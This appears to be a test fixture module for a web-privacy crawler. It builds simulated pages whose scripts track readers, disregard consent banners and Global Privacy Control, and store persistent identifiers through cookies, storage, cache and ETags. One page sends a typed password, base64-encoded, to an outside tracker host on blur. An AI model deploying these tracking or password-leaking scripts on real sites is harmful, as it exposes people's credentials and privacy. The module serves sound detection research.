"""Pages of the second crawl: they wait for a visitor who acts, ask for consent, or know who came before.

Their consent platforms are written to the published interfaces of OneTrust, Cookiebot and Sourcepoint.
"""

import re
import secrets

from overscripted.demo.acted import ACCEPT, GCLID, PLAIN, REJECT, REVISIT, ActedPage
from overscripted.demo.documents import Document
from overscripted.demo.http_messages import Request, Response
from overscripted.demo.page_style import paragraph
from overscripted.demo.world import World

_ADS = "https://ads.marrowgate-media.com"
_REPLAY = "https://in.quietreel-replay.com"
_HOOK = "https://hook.mailfern-crm.com"
_CMP = "https://cmp.brindle-consent.net"
_IDS = "https://ids.tallymark-audience.com"

_TELL = "const tell = (url) => { new Image().src = url; };\n"
_BANNER = 'style="position: fixed; left: 0; bottom: 0; width: 100%; height: 160px; background: white"'


def add(world: World) -> None:
    """Add the pages, and the hosts that they tell what they learn."""
    for url in (_ADS, _REPLAY, _HOOK, _IDS):
        world.host(url.removeprefix("https://"))
    _essay(world)
    _form(world)
    _account(world)


def _page(url: str, title: str, script: str, body: str = "") -> Document:
    page = Document(url, title).add(paragraph(url)).add(body)
    return page.add(f"<script>\n{_TELL}{script}</script>")


def _serve(world: World, page: Document) -> Document:
    world.route(page.location, Response(200, page.html().encode()))
    return page


# -- A page that waits for a reader ----------------------------------------------------------------
_ESSAY = f"""
new IntersectionObserver(([end]) => end.isIntersecting && tell("{_ADS}/read-to-the-end.gif"))
  .observe(document.getElementById("end"));
addEventListener("click", ({{ target }}) => target.closest("p") && tell("{_ADS}/clicked.gif"));

// A recorder that has nothing to send until somebody moves, and one that sends the page at once.
const events = [];
addEventListener("mousemove", (event) => {{
  if (event.isTrusted && events.push([event.clientX, event.clientY]) === 1) {{
    setTimeout(() => navigator.sendBeacon("{_REPLAY}/moves", JSON.stringify(events)), 500);
  }}
}});
navigator.sendBeacon("{_REPLAY}/snapshot", document.title);

window.OnetrustActiveGroups = ",C0001,C0002,C0004,";
const choose = (accepted) => () => {{
  OnetrustActiveGroups = accepted ? OnetrustActiveGroups : ",C0001,";
  document.getElementById("onetrust-banner-sdk").style.display = "none";
  if (accepted) tell("{_ADS}/allowed.gif");
}};
document.getElementById("onetrust-accept-btn-handler").onclick = choose(true);
document.getElementById("onetrust-reject-all-handler").onclick = choose(false);
"""
_ESSAY_BODY = f"""<ul><li><a href="/essay/two">Part two</a><li><a href="/logout">Log out</a>
<li><a href="/essay.zip" download>Download</a><li><a href="https://www.civicpulse-forum.org/">A forum</a></ul>
<div style="height: 900px"></div><p id="end">The end.</p>
<div id="onetrust-banner-sdk" {_BANNER}>
<button id="onetrust-reject-all-handler">Reject all</button>
<button id="onetrust-accept-btn-handler">Accept all</button></div>"""
_TWO = f"""
tell("{_ADS}/before-any-choice.gif");
window.Cookiebot = {{ hasResponse: false, declined: false, dialog: {{ visible: true }} }};
const choose = (accepted) => () => {{
  Object.assign(Cookiebot, {{ hasResponse: true, declined: !accepted, dialog: {{ visible: false }} }});
  document.getElementById("CybotCookiebotDialog").remove();
}};
document.getElementById("CybotCookiebotDialogBodyButtonAccept").onclick = choose(true);
document.getElementById("CybotCookiebotDialogBodyLevelButtonLevelOptinDeclineAll").onclick = choose(false);
"""
_TWO_BODY = f"""<div id="CybotCookiebotDialog" {_BANNER}>
<button id="CybotCookiebotDialogBodyLevelButtonLevelOptinDeclineAll">Deny</button>
<button id="CybotCookiebotDialogBodyButtonAccept">Allow all</button></div>"""


def _essay(world: World) -> None:
    """A tracker and a recorder that wait for a reader, and one that waits for consent.

    The mouse also moves to the button of the banner. Near misses: a recorder that does not wait, a tracker
    that waits for a click on the text, links that end a session, download or leave the site.
    """
    site = "https://longshore-letters.org"
    told = {
        "": [f"{_REPLAY}/snapshot"],
        PLAIN: [f"{_ADS}/read-to-the-end.gif", f"{_REPLAY}/moves"],
        ACCEPT: [f"{_REPLAY}/moves", f"{_ADS}/allowed.gif"],
    }
    second = _page(f"{site}/essay/two", "Part two", _TWO, _TWO_BODY)  # its tracker waits for no answer
    world.acted.append(
        ActedPage(
            _serve(world, _page(f"{site}/essay", "An essay", _ESSAY, _ESSAY_BODY)),
            "scroll,mouse,links=1",
            told,
            "Onetrust",
            [("follow", second.location, "done")],
            next=ActedPage(
                _serve(world, second),
                "scroll,mouse",
                {"": [f"{_ADS}/before-any-choice.gif"]},
                "Cybotcookiebot",
            ),
        )
    )


# -- A form that leaks -----------------------------------------------------------------------------
_FORM = f"""
const form = document.forms[0];
form.secret.onblur = () => {{
  if (!form.secret.value) return;
  tell(`{_HOOK}/typed.gif?${{btoa(form.secret.value)}}`);
  fetch(`/appointment/check?${{btoa(form.secret.value)}}`);
}};
form.onsubmit = () => tell(`{_HOOK}/submitted.gif?${{form.secret.value}}`);
"""
_FIELD = """<form action="/done"><p><input type="password" name="secret"> <button>Sign in</button></form>"""


def _form(world: World) -> None:
    """A field whose text goes to another site when it is left.

    Near misses: the text goes to the site itself, too; what would be sent with the form never is.
    """
    page = _page("https://fernhollow-clinic.org/appointment", "An appointment", _FORM, _FIELD)
    world.route(f"{page.location}/check", _text("fine", {}))
    told = {PLAIN: [f"{_HOOK}/typed.gif?{{password_base64}}"]}
    filled = [("fill", "input[name=secret]", "done")]
    world.acted.append(ActedPage(_serve(world, page), "forms", told, actions=filled))


# -- A page that knows its visitor -----------------------------------------------------------------
_KNOWN = """
const fresh = () => Array.from(crypto.getRandomValues(new Uint8Array(8)), (byte) =>
  byte.toString(16).padStart(2, "0")).join("");
const tellId = (way, id) => tell(`IDS/${way}.gif?id=${id}`);
const text = async (url) => (await fetch(url)).text();

document.cookie ||= `visitor=${fresh()}; max-age=99999`;
tellId("cookie", document.cookie.match(/visitor=(\\w+)/)[1]);
tellId("local_storage", (localStorage.visitor ??= fresh()));
tellId("session_storage", (sessionStorage.visitor ??= fresh()));
tellId("window_name", (window.name ||= fresh()));
tellId("nothing", fresh());
text("/account/cookie").then((id) => tellId("http_cookie", id));
text("/account/tag").then((id) => tellId("etag", id));
text("/account/once").then((id) => tellId("http_cache", id));
caches.open("visitor").then(async (cache) => {
  if (!(await cache.match("/visitor"))) await cache.put("/visitor", new Response(fresh()));
  tellId("cache_storage", await (await cache.match("/visitor")).text());
});
const opening = indexedDB.open("visitor");
opening.onupgradeneeded = () => opening.result.createObjectStore("ids").put(fresh(), "visitor");
opening.onsuccess = () => {
  opening.result.transaction("ids").objectStore("ids").get("visitor").onsuccess = ({ target }) =>
    tellId("indexed_db", target.result);
};

if (!navigator.globalPrivacyControl) tell("IDS/sold.gif");
if (navigator.globalPrivacyControl !== undefined) tell("IDS/sold-anyway.gif");
if (screen.width < 600) tell("IDS/narrow.gif");
const click = new URLSearchParams(location.search).get("gclid");
if (click) tell(`IDS/click.gif?gclid=${click}`);

addEventListener("message", ({ data }) => {
  document.getElementById("sp_message_container_1").remove();
  tell(`ADS/${data}ed.gif`);
});
""".replace("IDS", _IDS).replace("ADS", _ADS)
_MESSAGE = f"{_CMP}/index.html?message_id=1"
_KNOWN_BODY = f"""<div id="sp_message_container_1" {_BANNER}>
<iframe id="sp_message_iframe_1" src="{_MESSAGE}"></iframe></div>"""
_MESSAGE_BODY = """<button class="sp_choice_type_13">Reject</button>
<button class="sp_choice_type_11">Accept</button>
<script>
document.body.className = "type-modal";
for (const [choice, type] of [["accept", 11], ["reject", 13]]) {
  document.querySelector(`.sp_choice_type_${type}`).onclick = () => parent.postMessage(choice, "*");
}
</script>"""

# Way of keeping an identifier -> whether it comes back when the page is visited again.
_WAYS = {
    "cookie": True,
    "http_cookie": True,
    "local_storage": True,
    "indexed_db": True,
    "cache_storage": True,
    "http_cache": True,
    "etag": True,
    "session_storage": False,
    "window_name": False,
    "nothing": False,
}


def _account(world: World) -> None:
    """An identifier by each way, and something for GPC, phones and clicks on advertisements.

    Near misses: identifiers that do not come back, a sale that Global Privacy Control does not stop, and a
    tracker that comes after a refusal, too. The banner is in a frame of another site.
    """
    page = _page("https://knownface-market.com/account", "Your account", _KNOWN, _KNOWN_BODY)
    sold = [f"{_IDS}/sold.gif", f"{_IDS}/sold-by-server.gif"]
    told = {variant: [*sold] for variant in (PLAIN, "phone", "gclid", REVISIT, ACCEPT)}
    told[""] = [f"{_IDS}/{way}.gif?id=*" for way in _WAYS] + [f"{_IDS}/sold-anyway.gif", _MESSAGE]
    told["phone"] += [f"{_IDS}/narrow.gif", f"{_IDS}/for-phones.gif"]
    told["gclid"] += [f"{_IDS}/click.gif?{GCLID}"]
    told[ACCEPT] += [f"{_ADS}/accepted.gif"]
    told[REJECT] = [f"{_ADS}/rejected.gif"]
    shop = page.location.split("/")[2]
    findings = {
        "identifiers": [f"{mechanism} {shop} visitor" for mechanism in ("indexed_db", "local_storage")],
        "syncing": [f"{shop} to tallymark-audience.com by url"],
        "evasion": [f"gclid sent to {_IDS.removeprefix('https://')}"],
    }
    world.acted.append(ActedPage(page, "", told, "Sourcepoint-frame", returns=_WAYS, findings=findings))
    _serve(world, Document(_MESSAGE, "A message").add(_MESSAGE_BODY))

    def answer(request: Request) -> Response:
        """The page as the server makes it for this request."""
        html = page.html()
        if request.headers.get("sec-gpc") != "1":
            html += f'<img src="{_IDS}/sold-by-server.gif">'
        if "Mobile" in request.headers.get("user-agent", ""):
            html += f'<img src="{_IDS}/for-phones.gif">'
        return Response(200, html.encode(), headers={"Cache-Control": "no-store"})

    def once(request: Request) -> Response:
        """An identifier that the browser's cache keeps."""
        return _text(secrets.token_hex(8), {"Cache-Control": "max-age=9999"})

    world.route(page.location, answer)
    for path, answer_of in {"cookie": _cookie, "tag": _tag, "once": once}.items():
        world.route(f"{page.location}/{path}", answer_of)


def _text(text: str, headers: dict[str, str]) -> Response:
    return Response(200, text.encode(), "text/plain", {"Cache-Control": "no-store", **headers})


def _cookie(request: Request) -> Response:
    """The identifier in a cookie that scripts cannot read."""
    known = re.search(r"\bserver=(\w+)", request.headers.get("cookie", ""))
    visitor = known[1] if known else secrets.token_hex(8)
    return _text(visitor, {"Set-Cookie": f"server={visitor}; Path=/; HttpOnly; Max-Age=9999"})


def _tag(request: Request) -> Response:
    """The identifier in an ETag, which the browser sends back."""
    visitor = request.headers.get("if-none-match", "").strip('"') or secrets.token_hex(8)
    return _text(visitor, {"ETag": f'"{visitor}"', "Cache-Control": "no-cache"})
